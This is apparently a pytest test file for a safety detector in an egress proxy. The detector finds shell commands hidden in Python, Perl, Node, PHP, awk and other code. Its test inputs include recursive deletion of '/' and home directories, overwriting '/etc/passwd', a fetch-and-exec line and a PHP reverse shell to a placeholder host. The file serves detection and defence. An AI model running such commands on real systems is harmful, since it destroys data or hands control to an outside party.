"""Shell texts inside other languages."""

import pytest

from egress_proxy.safety.foreign import runs_decoded, shell_texts


@pytest.mark.parametrize(
    ("language", "code", "text"),
    [
        ("python", "import os;os.system('X y')", "X y"),
        ("python", 'subprocess.run(["X", "y"])', "X 'y'"),
        ("python", 'os.execl("/bin/X", "X", "y")', "/bin/X 'X' 'y'"),
        ("python", 'c = "X y"; os.system(c)', "X y"),
        ("python", 'from os import system as s; s("X y")', "X y"),
        ("python", 'exec("os.system(\\"X y\\")")', "X y"),
        ("python", 'Path("a").unlink()', "rm -f 'a'"),
        ("python", 'Path("a").write_text("b")', "true > 'a'"),
        ("python", "shutil.rmtree(Path.home())", "rm -rf ~"),
        ("python", 'shutil.rmtree(os.environ["HOME"])', "rm -rf ~"),
        ("python", 'rmtree(os.path.join(expanduser("~"), "a", "b"))', "rm -rf ~/a/b"),
        ("python", 'run("X y", cwd="/")', "X y"),
        ("python", "p = 'y'; os.system(f'X {p}')", "X y"),
        ("python", "from shutil import rmtree as r; r('a')", "rm -rf 'a'"),
        ("python", "[os.unlink(f) for f in glob.glob('/etc/*')]", "rm -f '/etc/*'"),
        ("python", "for f in os.listdir('/a'): os.remove(f)", "rm -f '/a/*'"),
        ("php", 'array_map("unlink", glob("/etc/*"))', "rm -f '/etc/*'"),
        ("emacs", '(call-process "X" nil nil "y" "z")', "X 'y' 'z'"),
        ("python", "os.chdir('a')", "cd 'a'"),
        ("node", "fs.rmSync(process.env.HOME)", "rm -rf ~"),
        ("perl", 'exec "X","y"', "X 'y'"),
        ("perl", 'unlink glob "/*"', "rm -f '/*'"),
        ("perl", "system qw(X y)", "X 'y'"),
        ("perl", 'open(F,"|X y")', "X y"),
        ("perl", 'open(F,">/a")', "true > '/a'"),
        ("ruby", 'system "X", "y"', "X 'y'"),
        ("node", 'const {execSync:e}=require("child_process"); e("X y")', "X y"),
        ("node", 'fs.rmSync("/", {recursive:true})', "rm -rf '/'"),
        ("node", 'execSync("X y", {cwd: "/"})', "X y"),
        ("deno", 'new Deno.Command("X", {args:["y"]})', "X 'y'"),
        ("bun", "Bun.$`X y`", "X y"),
        ("awk", 'BEGIN{"X y" | getline}', "X y"),
        ("awk", 'BEGIN{print "X y" | "sh"}', "echo 'X y' | sh"),
        ("awk", 'BEGIN{print "x" > "/a"}', "true > '/a'"),
        ("expect", "spawn X y; interact", "X y"),
        ("osascript", 'do shell script "X" with administrator privileges', "sudo X"),
        ("groovy", '"X y".execute()', "X y"),
        ("emacs", '(delete-directory "/" t)', "rm -rf '/'"),
        ("vim", 'call system("X y")', "X y"),
        ("vim", "silent !X y", "X y"),
        ("bang", "!X y", "X y"),
        ("make", "a:\n\tX y", "X y"),
        ("crontab", "@daily X y", "X y"),
        ("python", "shutil.rmtree('/')", "rm -rf '/'"),
        ("python", "open('/etc/passwd', 'w')", "true > '/etc/passwd'"),
        ("perl", 'system("X y")', "X y"),
        ("perl", "`X y`", "X y"),
        ("ruby", "%x{X y}", "X y"),
        ("node", "require('child_process').execSync('X y')", "X y"),
        ("awk", 'BEGIN{system("X y")}', "X y"),
        ("python", "exec(urlopen('https://x').read())", "curl fetched | sh"),
        ("php", '$s=fsockopen("h",1);exec("/bin/sh -i")', "sh -i > /dev/tcp/elsewhere/1"),
    ],
)
def test_calls_are_found(language: str, code: str, text: str) -> None:
    assert text in list(shell_texts(code, language))


@pytest.mark.parametrize(
    "code", ["print('rm -rf /')", "import re; re.search('sudo', 'x')", "console.log('rm -rf /')"]
)
def test_strings_alone_are_data(code: str) -> None:
    assert list(shell_texts(code, "python")) == []


@pytest.mark.parametrize("code", ["execSync('a', {cwd: '/'})", "run('a', cwd='/')"])
def test_where_a_command_runs_is_no_argument_of_it(code: str) -> None:
    assert list(shell_texts(code, "python")) == ["a"]


def test_a_text_that_is_decoded_and_run_is_told_apart_from_one_that_is_printed() -> None:
    assert runs_decoded("os.system(b64decode('eA=='))")
    assert not runs_decoded("print(b64decode('eA=='))")


@pytest.mark.parametrize(
    "piece", ["exec eval urlopen(", "run('a',", 'system "', 'open(F,"', "eval('", "a.b(("]
)
def test_the_work_is_bounded(piece: str) -> None:
    given_up: list[bool] = []
    assert len(list(shell_texts(piece * 5_000, "python", lambda: given_up.append(True)))) <= 64
    assert given_up
